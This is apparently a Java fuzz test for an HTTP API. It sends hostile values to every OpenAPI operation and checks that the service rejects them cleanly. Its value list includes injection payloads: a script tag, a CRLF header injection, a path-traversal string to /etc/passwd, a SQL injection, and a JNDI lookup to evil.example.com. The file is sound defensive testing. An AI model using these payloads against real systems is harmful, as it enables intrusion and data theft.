package dev.sesame.http.api;

import static org.assertj.core.api.Assertions.assertThat;

import dev.sesame.http.fixture.Answer;
import dev.sesame.http.fixture.Json;
import dev.sesame.http.fixture.RunningService;
import java.net.URLEncoder;
import java.net.http.HttpRequest.BodyPublishers;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.regex.Matcher;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;
import org.yaml.snakeyaml.Yaml;

/** Every operation of openapi.yml, with values that nobody means well with in every place that takes one. */
final class HostileValuesTest {

    private static final long SEED = 20_261_121;
    private static final List<String> ROLES = List.of("send", "read", "admin");

    /** It is told apart from what an answer says on its own. */
    private static final String MARK = "<script>mark</script>";

    private static final List<@Nullable Object> VALUES = Arrays.asList(
            null,
            true,
            -1,
            0,
            1e308,
            Long.MIN_VALUE,
            "",
            " ",
            MARK,
            "a".repeat(10_000),
            "\r\nX-Injected: mark",
            "\u0000\u0001\u007f",
            "\u202e\u200b\ufeff\ud83d\ude00\u0301",
            "../../etc/passwd",
            "' OR 1=1 --",
            "${jndi:ldap://evil.example.com/a}",
            "{{#a}}{{{b}}}{{/c}}",
            List.of(),
            List.of(List.of(List.of(MARK))),
            Map.of(),
            Map.of(MARK, MARK),
            Map.of("", Arrays.asList(null, null)));

    private static RunningService service;
    private static Map<String, Object> document = Map.of();

    @BeforeAll
    static void start() {
        service = RunningService.start(Map.of(
                "sesame.api-keys", "s@send:send-key,r@read:read-key,a@admin:admin-key",
                "sesame.send-budget", "1s"));
        Object loaded = new Yaml().load(service.get("/openapi.yml").body());
        document = Json.object(loaded);
    }

    @AfterAll
    static void stop() {
        service.close();
    }

    @TestFactory
    Stream<DynamicTest> every_operation_refuses_them_as_what_they_are() {
        Map<String, Map<String, Object>> operations = new TreeMap<>();
        Json.object(document.get("paths")).forEach((path, methods) -> Json.object(methods)
                .forEach((method, operation) ->
                        operations.put(method.toUpperCase(Locale.ROOT) + " " + path, Json.object(operation))));
        assertThat(operations).hasSizeGreaterThan(20);
        return operations.entrySet().stream()
                // It takes a while, and connects to wherever SES is: its parameters are those of the call next to it.
                .filter(operation -> !operation.getKey().endsWith("/check"))
                .map(operation -> DynamicTest.dynamicTest(
                        operation.getKey(), () -> attack(operation.getKey(), operation.getValue())));
    }

    private static void attack(String call, Map<String, Object> operation) {
        Random random = new Random(SEED + call.hashCode());
        for (@Nullable Object body : bodies(operation, random)) {
            send(call, operation, text(VALUES.get(random.nextInt(VALUES.size()))), body, random);
        }
        for (@Nullable Object value : VALUES) {
            send(call, operation, text(value), Map.of(), random);
        }
    }

    private static String text(@Nullable Object value) {
        String text = String.valueOf(value);
        // Longer ones are refused before anybody looks at them.
        return text.substring(0, Math.min(2_000, text.length()));
    }

    /** One with a wrong value for each member, one with the same for all, and what is no object. */
    private static List<@Nullable Object> bodies(Map<String, Object> operation, Random random) {
        List<String> members = members(operation);
        List<@Nullable Object> bodies = new ArrayList<>();
        for (String member : members) {
            for (@Nullable Object value : VALUES) {
                Map<String, @Nullable Object> body = new LinkedHashMap<>(valid(members));
                body.put(member, value);
                bodies.add(body);
            }
        }
        for (@Nullable Object value : VALUES) {
            Map<String, @Nullable Object> body = new LinkedHashMap<>();
            members.forEach(member -> body.put(member, value));
            bodies.add(body);
            bodies.add(value);
        }
        // As many as one wants to wait for; others with another seed.
        Collections.shuffle(bodies, random);
        return bodies.subList(0, Math.min(120, bodies.size()));
    }

    private static Map<String, @Nullable Object> valid(List<String> members) {
        Map<String, @Nullable Object> valid = new LinkedHashMap<>(Map.of(
                "to", "someone@example.com",
                "type", "SignIn",
                "usageType", "SignIn",
                "payload", Map.of("code", "482916")));
        valid.keySet().retainAll(members);
        return valid;
    }

    private static List<String> members(Map<String, Object> operation) {
        if (!operation.containsKey("requestBody")) {
            return List.of();
        }
        Map<String, Object> content = Json.object(Json.at(operation, "requestBody.content"));
        Map<String, Object> schema =
                Json.object(Json.object(content.values().iterator().next()).get("schema"));
        String reference = String.valueOf(schema.get("$ref"));
        if (schema.containsKey("$ref")) {
            schema = Json.object(
                    Json.at(document, "components.schemas." + reference.substring(reference.lastIndexOf('/') + 1)));
        }
        return List.copyOf(
                Json.object(schema.getOrDefault("properties", Map.of())).keySet());
    }

    private static void send(
            String call, Map<String, Object> operation, String value, @Nullable Object body, Random random) {
        String role = ROLES.get(random.nextInt(ROLES.size()));
        int space = call.indexOf(' ');
        String encoded = URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
        String path = call.substring(space + 1).replaceAll("\\{.*?}", Matcher.quoteReplacement(encoded));
        StringBuilder query = new StringBuilder();
        for (Map<String, Object> parameter : Json.objects(operation.getOrDefault("parameters", List.of()))) {
            if ("query".equals(parameter.get("in")) && random.nextBoolean()) {
                query.append(query.isEmpty() ? '?' : '&')
                        .append(parameter.get("name"))
                        .append('=')
                        .append(encoded);
            }
        }
        String harmless = value.codePoints().allMatch(c -> c > ' ' && c < 127) ? value : "\"x\"";
        String header = harmless.isEmpty() ? "x" : harmless;
        String json = body == null ? "null" : Json.write(body);
        Answer answer = service.call(
                call.substring(0, space),
                path + query,
                operation.containsKey("requestBody") || call.startsWith("POST")
                        ? BodyPublishers.ofString(json)
                        : BodyPublishers.noBody(),
                "Authorization",
                "Bearer " + role + "-key",
                "Content-Type",
                "application/json",
                "If-Match",
                header,
                "Idempotency-Key",
                header,
                "Prefer",
                header,
                "X-Request-Id",
                header,
                "Accept-Language",
                header);
        assertAnswered(answer, call + " " + path + query + " as " + role + " with " + json);
    }

    private static void assertAnswered(Answer answer, String what) {
        String told =
                what.substring(0, Math.min(1_000, what.length())) + " -> " + answer.status() + " " + answer.body();
        assertThat(answer.status()).as(told).isLessThan(500);
        assertThat(answer.headers().firstValue("X-Injected")).as(told).isEmpty();
        assertThat(answer.header("X-Content-Type-Options")).as(told).isEqualTo("nosniff");
        if (answer.status() < 400) {
            return;
        }
        assertThat(answer.body()).as(told).doesNotContain(MARK).hasSizeLessThan(200_000);
        if (answer.contentType().startsWith("text/plain")) {
            assertThat(what).startsWith("POST /v1/hooks/logto");
            return;
        }
        assertThat(answer.contentType()).as(told).isEqualTo("application/problem+json");
        assertThat(answer.code()).as(told).matches("[a-z_]+");
    }
}
